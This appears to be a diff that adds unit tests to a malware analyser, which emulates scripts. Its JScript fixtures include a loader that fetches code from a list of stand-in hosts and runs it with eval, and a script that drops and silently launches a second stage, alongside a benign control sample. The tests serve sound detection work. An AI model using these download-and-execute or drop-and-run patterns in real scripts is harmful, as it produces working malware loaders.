@@ -66,6 +66,70 @@ public sealed class EmulationTests
     }
 
     [Fact]
+    public async Task A_loader_that_tries_its_download_on_a_list_of_servers_is_malicious_with_every_url()
+    {
+        // The second stage is only run when the answer carries the loader's marker, which the stand-in never does.
+        var report = await Analyse("""
+            var hosts = ["one.example.com", "two.example.net", "three.example.org"];
+            var marker = "K7x9Qz";
+            for (var i = 0; i < hosts.length; i++) {
+              var http = new ActiveXObject("Msxml2.XMLHTTP");
+              try {
+                http.open("GET", "http://" + hosts[i] + "/counter/?" + marker, false);
+                http.send();
+                var text = http.responseText;
+                if (text.length > 1000 && text.indexOf(marker) > -1) { eval(text.split(marker).join("a")); break; }
+              } catch (e) { }
+            }
+            """);
+
+        Assert.Equal(Verdict.Malicious, report.Verdict);
+        var finding = Emulation(report, "emulation-download-fallback");
+        Assert.Equal(["T1059.007", "T1105", "T1008"], finding.Attack);
+        Assert.Contains("tries 3 servers", finding.Title, StringComparison.Ordinal);
+        foreach (var host in new[] { "one.example.com", "two.example.net", "three.example.org" })
+        {
+            Assert.Contains(report.Nodes[0].Iocs, i => i.Scanner == "emulation" && i.Kind == IndicatorKind.Url && i.Value == $"http://{host}/counter/?K7x9Qz");
+        }
+    }
+
+    [Fact]
+    public async Task A_script_that_writes_a_second_script_and_starts_it_is_malicious()
+    {
+        var report = await Analyse("""
+            var fso = new ActiveXObject("Scripting.FileSystemObject");
+            var shell = new ActiveXObject("WScript.Shell");
+            var path = shell.ExpandEnvironmentStrings("%TEMP%") + "\\stage2.js";
+            var file = fso.CreateTextFile(path, true);
+            file.Write("var x = 1;");
+            file.Close();
+            shell.Run("wscript.exe \"" + path + "\"", 0, false);
+            """);
+
+        Assert.Equal(Verdict.Malicious, report.Verdict);
+        var finding = Emulation(report, "emulation-drop-execute");
+        Assert.Contains(@"C:\Users\admin\AppData\Local\Temp\stage2.js", finding.Evidence, StringComparison.Ordinal);
+        Assert.Contains("WScript.Shell.Run wscript.exe", finding.Evidence, StringComparison.Ordinal);
+        Assert.Contains(report.Nodes, n => n.Name == "stage2.js" && n.Relation == Relation.Dropped);
+    }
+
+    [Fact]
+    public async Task A_script_that_writes_a_text_file_and_opens_it_in_notepad_is_not_malicious()
+    {
+        var report = await Analyse("""
+            var fso = new ActiveXObject("Scripting.FileSystemObject");
+            var shell = new ActiveXObject("WScript.Shell");
+            var file = fso.CreateTextFile("C:\\Users\\Public\\notes.txt", true);
+            file.WriteLine("Meeting at ten.");
+            file.Close();
+            shell.Run("notepad.exe C:\\Users\\Public\\notes.txt", 1, false);
+            """);
+
+        Assert.DoesNotContain(report.AllFindings, f => f.Finding.Scanner == "emulation" && f.Finding.Severity == Severity.Malicious);
+        Assert.Equal(Severity.Suspicious, Emulation(report, "emulation-command").Severity);
+    }
+
+    [Fact]
     public async Task A_payload_decoded_from_base64_is_emitted_as_a_dropped_file_and_analysed()
     {
         var payload = "@echo off\r\nstart calc.exe\r\n";
